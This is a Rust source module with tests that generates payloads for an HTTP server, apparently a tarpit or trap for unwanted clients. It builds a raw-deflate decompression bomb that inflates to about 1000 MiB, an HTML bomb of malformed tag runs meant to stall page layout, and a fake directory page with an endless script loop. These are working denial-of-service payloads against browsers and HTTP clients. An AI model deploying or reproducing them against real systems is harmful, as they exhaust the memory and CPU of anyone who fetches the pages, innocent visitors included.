//! One-time payload generators.
//!
//! Bombs are precomputed once per pattern instance, at construction,
//! and shared read-only by every connection the instance serves.
//! Generation is deterministic for a fixed configuration, so two
//! instances built the same way hold byte-identical payloads.

use std::io;
use std::io::Write;

use flate2::write::{DeflateEncoder, GzEncoder};
use flate2::Compression;
use serde::{Deserialize, Serialize};

/// Container format for the compressed bombs.
///
/// Raw deflate carries no decompressed-size trailer, so a client has to
/// inflate the whole stream to learn how big it is. Gzip advertises the
/// size up front but is accepted by more clients.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum BombEncoding {
    Deflate,
    Gzip,
}

impl BombEncoding {
    pub fn header_token(self) -> &'static str {
        match self {
            BombEncoding::Deflate => "deflate",
            BombEncoding::Gzip => "gzip",
        }
    }
}

/// A precomputed payload plus the HTTP metadata needed to serve it.
#[derive(Debug, Clone)]
pub struct GeneratedContent {
    pub body: Vec<u8>,
    pub content_type: &'static str,
    pub content_encoding: Option<&'static str>,
}

const MIB: usize = 1024 * 1024;

enum Encoder {
    Deflate(DeflateEncoder<Vec<u8>>),
    Gzip(GzEncoder<Vec<u8>>),
}

impl Encoder {
    fn new(encoding: BombEncoding) -> Self {
        match encoding {
            BombEncoding::Deflate => {
                Encoder::Deflate(DeflateEncoder::new(Vec::new(), Compression::best()))
            }
            BombEncoding::Gzip => Encoder::Gzip(GzEncoder::new(Vec::new(), Compression::best())),
        }
    }

    fn feed(&mut self, data: &[u8]) -> io::Result<()> {
        match self {
            Encoder::Deflate(e) => e.write_all(data),
            Encoder::Gzip(e) => e.write_all(data),
        }
    }

    fn repeat(&mut self, fragment: &[u8], times: usize) -> io::Result<()> {
        for _ in 0..times {
            self.feed(fragment)?;
        }
        Ok(())
    }

    fn finish(self) -> io::Result<Vec<u8>> {
        match self {
            Encoder::Deflate(e) => e.finish(),
            Encoder::Gzip(e) => e.finish(),
        }
    }
}

/// ~1000 MiB of zeros behind a few bytes of broken HTML, compressed to
/// roughly a megabyte on the wire. Deflate's practical ceiling is about
/// 1000:1, so the stream cannot get much denser than this.
///
/// Always raw deflate: the client must inflate everything to discover
/// the size.
pub fn deflate_size_bomb() -> io::Result<GeneratedContent> {
    tracing::info!("generating size bomb");
    let mut encoder = Encoder::new(BombEncoding::Deflate);
    encoder.feed(b"<!DOCTYPE html><html><body>")?;
    let zeros = vec![0u8; MIB];
    for _ in 0..1000 {
        encoder.feed(&zeros)?;
    }
    encoder.repeat(b"<table>MORE!</dd>", 5)?;
    let body = encoder.finish()?;
    tracing::info!(compressed_kib = body.len() / 1024, "size bomb ready");
    Ok(GeneratedContent {
        body,
        content_type: "text/html; charset=UTF-8",
        content_encoding: Some(BombEncoding::Deflate.header_token()),
    })
}

/// Cheap to decompress, expensive to lay out: hundreds of thousands of
/// repeated, partially malformed tag runs. Zeros alone are not enough to
/// wedge a real HTML engine; the mismatched tags are what hurt.
pub fn deflate_html_bomb(encoding: BombEncoding) -> io::Result<GeneratedContent> {
    tracing::info!(encoding = encoding.header_token(), "generating html bomb");
    let mut encoder = Encoder::new(encoding);
    encoder.feed(b"<!DOCTYPE html><html><body>")?;
    encoder.feed(&vec![0u8; MIB])?;
    encoder.repeat(b"<div>SUPER</a><em>HOT</em></span>", 102_400)?;
    encoder.repeat(
        b"<table></div><a>SUPER<tr><td rowspan=\"201\" colspan=\"1\">HOT</dd>",
        51_200,
    )?;
    encoder.repeat(b"<table>MORE!</dd>", 5)?;
    let body = encoder.finish()?;
    tracing::info!(compressed_kib = body.len() / 1024, "html bomb ready");
    Ok(GeneratedContent {
        body,
        content_type: "text/html; charset=UTF-8",
        content_encoding: Some(encoding.header_token()),
    })
}

/// A small page that keeps the visitor busy instead of the wire: a tight
/// script loop plus hundreds of links that all point back at the page.
pub fn bad_site_document() -> GeneratedContent {
    let mut page = String::with_capacity(32 * 1024);
    page.push_str("<!DOCTYPE html><html><head><title>Index of /</title>");
    page.push_str("<script>for(;;){window.history.pushState(null,\"\",\"/\");}</script>");
    page.push_str("</head><body><h1>Index of /</h1><ul>");
    for n in 0..512 {
        page.push_str(&format!("<li><a href=\"/?p={n:03x}\">entry-{n:03x}</a></li>"));
    }
    page.push_str("</ul></body></html>");
    GeneratedContent {
        body: page.into_bytes(),
        content_type: "text/html; charset=UTF-8",
        content_encoding: None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    #[test]
    fn html_bomb_is_deterministic() {
        let a = deflate_html_bomb(BombEncoding::Deflate).unwrap();
        let b = deflate_html_bomb(BombEncoding::Deflate).unwrap();
        assert_eq!(a.body, b.body);
        assert_eq!(a.content_encoding, Some("deflate"));
    }

    #[test]
    fn gzip_html_bomb_has_gzip_magic() {
        let content = deflate_html_bomb(BombEncoding::Gzip).unwrap();
        assert_eq!(content.content_encoding, Some("gzip"));
        assert_eq!(&content.body[..2], &[0x1f, 0x8b]);
    }

    #[test]
    fn size_bomb_compresses_a_gigabyte_to_roughly_a_megabyte() {
        let content = deflate_size_bomb().unwrap();
        assert_eq!(content.content_encoding, Some("deflate"));
        // ~1000:1 against 1000 MiB of input, with generous slack.
        assert!(content.body.len() > 256 * 1024, "suspiciously small bomb");
        assert!(content.body.len() < 8 * MIB, "bomb barely compressed");

        // The first inflated bytes are the broken-HTML wrapper.
        let mut head = [0u8; 27];
        flate2::read::DeflateDecoder::new(&content.body[..])
            .read_exact(&mut head)
            .unwrap();
        assert_eq!(&head, b"<!DOCTYPE html><html><body>");
    }

    #[test]
    fn bad_site_loops_and_links() {
        let content = bad_site_document();
        let page = String::from_utf8(content.body).unwrap();
        assert!(page.contains("for(;;)"));
        assert!(page.matches("<a href=").count() >= 300);
        assert!(content.content_encoding.is_none());
    }
}
